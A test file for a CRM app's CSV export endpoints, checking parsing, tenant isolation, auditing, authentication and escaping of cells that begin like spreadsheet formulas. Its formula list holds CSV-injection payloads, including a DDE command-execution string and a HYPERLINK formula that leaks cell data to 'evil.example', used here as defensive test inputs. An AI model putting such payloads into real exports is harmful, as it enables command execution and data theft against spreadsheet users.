import { ObjectId } from 'mongodb'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import dealsExport from '../../../server/api/v1/deals/export.get'
import leadsExport from '../../../server/api/v1/leads/export.get'
import { csvLine } from '../../../server/leads/csv'
import { newDeal, newLead } from '../../../server/records/blank'
import { createClient, type Client } from '../../support/client'
import { mountRoutes } from '../../support/mount-routes'
import { startSyncBench, type SyncBench } from '../../support/sync'
import { recordRoutes } from './routes'
import { aUser } from '../../support/users'

let bench: SyncBench
let http: Awaited<ReturnType<typeof mountRoutes>>
let client: Client
const password = 'a long enough password'
const member = 'reader@example.test'

beforeAll(async () => {
  bench = await startSyncBench({ writeBack: false })
  await aUser(bench.services.database.collections, {
    partnerName: 'Northwind',
    email: member,
    password,
    role: 'member',
  })
  // In front of the routes with an id, as Nitro ranks them.
  http = await mountRoutes(bench.services, [
    { method: 'GET', path: '/api/v1/leads/export', handler: leadsExport },
    { method: 'HEAD', path: '/api/v1/leads/export', handler: leadsExport },
    { method: 'GET', path: '/api/v1/deals/export', handler: dealsExport },
    ...recordRoutes,
  ])
  client = createClient(http.url)
  await client.signIn(member, password)
})
afterAll(async () => {
  await http.close()
  await bench.stop()
})

/** RFC 4180, by the letter: quotes, doubled quotes, CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  const token = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy
  for (let at = 0; at < text.length; at = token.lastIndex) {
    token.lastIndex = at
    const match = token.exec(text)
    if (!match) throw new Error(`Not RFC 4180 at ${at}: ${text.slice(at, at + 40)}`)
    row.push(match[1] !== undefined ? match[1].replaceAll('""', '"') : (match[2] ?? ''))
    if (match[3] !== '\r\n') continue
    rows.push(row)
    row = []
  }
  return rows
}

const rowsOf = async (path: string) => {
  // `text()` would take the mark off.
  const answer = await fetch(`${http.url}${path}`, { headers: { cookie: client.cookie } })
  const bytes = Buffer.from(await answer.arrayBuffer())
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  const [header = [], ...rows] = parseCsv(bytes.subarray(3).toString())
  return {
    headers: answer.headers,
    rows: rows.map(row => Object.fromEntries(header.map((name, index) => [name, row[index]]))),
  }
}

const formulas = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠a',
  '=1";=2',
  '=1,"=2"',
]

describe('a cell', () => {
  it.each(formulas.map(text => [JSON.stringify(text), text]))(
    'that begins like a formula is text: %s',
    (_name, text) => {
      expect(parseCsv(csvLine(['a', text, 'z']))).toEqual([['a', `'${text}`, 'z']])
    },
  )

  it('keeps what it holds otherwise', () => {
    const values = [
      '',
      'plain',
      'a,b',
      'say "hi"',
      'two\r\nlines',
      'a;=1+1',
      ' spaced ',
      'Zoë 北京 👩‍🚀',
      '12.50',
      'a=b',
      '-1200.50',
      '+1 555 0100',
      '+49 (30) 123-45',
      "'quoted",
    ]
    expect(parseCsv(csvLine(values))).toEqual([values])
    expect(csvLine(['a;=1+1', null])).toBe('"a;=1+1",\r\n')
  })
})

describe('the export', () => {
  it("holds every lead of the partner once, more than a page of them, and nobody else's", async () => {
    const { collections, partner } = bench
    const now = new Date()
    const mine = Array.from({ length: 1203 }, (_, index) => ({
      ...newLead(
        partner.partnerId,
        {
          email: `p${index}@example.com`,
          firstName: formulas[index % formulas.length],
          company: `Müller, "Söhne" & ${index}`,
        },
        now,
      ),
      hubspot_id: String(index),
      portal_id: partner.portalId,
      local_email: null,
    }))
    await collections.leads.insertMany([
      ...mine,
      newLead(new ObjectId(), { email: 'canary@other.test' }, now),
    ])
    const { headers, rows } = await rowsOf('/api/v1/leads/export')
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="leads-\d{4}-\d\d-\d\d\.csv"$/,
    )
    expect(headers.get('cache-control')).toBe('no-store')
    expect(rows.length).toBe(mine.length)
    expect(new Set(rows.map(row => row.id)).size).toBe(mine.length)
    expect(rows[7]).toMatchObject({
      hubspotId: '7',
      email: 'p7@example.com',
      firstName: `'${formulas[7]}`,
      lastName: '',
      company: 'Müller, "Söhne" & 7',
      syncState: 'unlinked',
    })
    expect(
      rows.every(
        row => !Object.values(row).some(value => value !== undefined && /^[=+\-@\t\r]/.test(value)),
      ),
    ).toBe(true)
    expect(JSON.stringify(rows)).not.toContain('canary')
  })

  it('holds the deals, with the leads that they belong to', async () => {
    const { collections, partner } = bench
    const leadIds = [new ObjectId(), new ObjectId()]
    await collections.deals.insertOne({
      ...newDeal(
        partner.partnerId,
        { name: '=1+1', amount: '-1200.50', currency: 'EUR', closeDate: '2026-12-31' },
        new Date(),
      ),
      stage: 'won',
      lead_ids: leadIds,
    })
    const { rows } = await rowsOf('/api/v1/deals/export')
    expect(rows).toMatchObject([
      {
        name: "'=1+1",
        amount: '-1200.50',
        currency: 'EUR',
        stage: 'Won',
        closeDate: '2026-12-31',
        leadIds: leadIds.join(' '),
      },
    ])
  })

  it('says choices, owners, pipelines and stages as people call them; lists take either', async () => {
    const { collections, partner, services } = bench
    const { partnerId } = partner
    // What pages read, and with that the words.
    await services.mapping.labels(partnerId)
    const [pipeline] = (await services.mapping.stageMapping(partnerId)).pipelines
    const [stage] = pipeline?.stages ?? []
    if (!pipeline || !stage) throw new Error('The account has no pipeline')
    const { key } = await services.mapping.ownFields.create(
      partnerId,
      {
        object: 'lead',
        label: 'Region',
        type: 'choice',
        options: [
          { value: 'r1', label: 'North, by the sea' },
          { value: 'r2', label: 'South' },
        ],
      },
      { type: 'system' } as never,
    )
    const lead = newLead(
      partnerId,
      { email: 'words@example.com', lifecycleStage: 'salesqualifiedlead' },
      new Date(),
    )
    await collections.leads.insertOne({
      ...lead,
      values: { ...lead.values, [key]: 'r1' },
    })
    const deal = newDeal(partnerId, { name: 'Words' }, new Date())
    await collections.deals.insertOne({
      ...deal,
      portal_id: partner.portalId,
      hubspot_pipeline_id: pipeline.id,
      hubspot_stage_id: stage.id,
    })

    for (const asked of ['Sales qualified lead', 'SalesQualifiedLead', 'salesqualifiedlead']) {
      const query = `lifecycle=${encodeURIComponent(asked)}`
      const { rows } = await rowsOf(`/api/v1/leads/export?${query}`)
      expect(rows.map(row => [row.email, row.lifecycleStage, row[key]])).toEqual([
        ['words@example.com', 'Sales Qualified Lead', 'North, by the sea'],
      ])
      expect((await client.get(`/api/v1/leads?${query}`)).json).toMatchObject({ total: 1 })
    }
    expect((await client.get('/api/v1/leads?lifecycle=No+such+stage')).json).toMatchObject({
      statusCode: 422,
      data: { code: 'validation_failed', issues: [{ path: 'lifecycle' }] },
    })
    const ofPipeline = `pipeline=${encodeURIComponent(pipeline.label.toUpperCase())}`
    expect((await rowsOf(`/api/v1/deals/export?${ofPipeline}`)).rows).toMatchObject([
      {
        name: 'Words',
        hubspotPipelineId: pipeline.id,
        hubspotPipeline: pipeline.label,
        hubspotStageId: stage.id,
        hubspotStage: stage.label,
      },
    ])
    expect((await rowsOf('/api/v1/deals/export?stage=Won')).rows).toMatchObject([{ stage: 'Won' }])
    await collections.leads.deleteOne({ _id: lead._id })
    await collections.deals.deleteOne({ _id: deal._id })
  })

  it("takes the list's own query, in its order", async () => {
    const { rows } = await rowsOf('/api/v1/leads/export?q=p100&sort=-email')
    expect(rows.map(row => row.email)).toEqual([
      'p100@example.com',
      ...Array.from({ length: 10 }, (_, index) => `p100${9 - index}@example.com`),
    ])
    const all = await rowsOf('/api/v1/leads/export?sort=company')
    expect(new Set(all.rows.map(row => row.id)).size).toBe(1203)
    expect((await rowsOf('/api/v1/leads/export?syncState=failed')).rows).toEqual([])
  })

  it('leaves an audit line; HEAD hands out nothing and leaves none', async () => {
    const lines = () =>
      bench.collections.auditLog
        .find({ partner_id: bench.partner.partnerId, action: 'records.export' })
        .sort({ _id: 1 })
        .toArray()
    const before = await lines()
    expect(before.map(line => [line.actor.email, line.details.kind])).toEqual([
      [member, 'leads'],
      [member, 'deals'],
      ...Array.from({ length: 3 }, () => [member, 'leads']),
      ...Array.from({ length: 2 }, () => [member, 'deals']),
      ...Array.from({ length: 3 }, () => [member, 'leads']),
    ])
    const head = await client.request('HEAD', '/api/v1/leads/export')
    expect([head.status, head.headers.get('content-type'), head.text]).toEqual([
      200,
      'text/csv; charset=utf-8',
      '',
    ])
    expect(await lines()).toEqual(before)
  })

  it('takes no query, and nobody who is not signed in', async () => {
    expect((await client.get('/api/v1/leads/export?partnerId=x')).status).toBe(422)
    expect((await createClient(http.url).get('/api/v1/leads/export')).status).toBe(401)
  })

  it('of nothing is a header line', async () => {
    await aUser(bench.services.database.collections, {
      partnerName: 'Empty',
      email: 'empty@example.test',
      password,
      role: 'member',
    })
    const empty = createClient(http.url)
    await empty.signIn('empty@example.test', password)
    expect(
      parseCsv((await empty.get('/api/v1/deals/export')).text.replace(/^\uFEFF/, '')),
    ).toHaveLength(1)
  })

  it('ends quietly when the reader leaves in the middle', async () => {
    const abort = new AbortController()
    const answer = await fetch(`${http.url}/api/v1/leads/export`, {
      headers: { cookie: client.cookie },
      signal: abort.signal,
    })
    const reader = answer.body?.getReader()
    await reader?.read()
    abort.abort()
    await reader?.read().catch(() => {})
    expect((await client.get('/api/v1/deals/export')).status).toBe(200)
  })
})
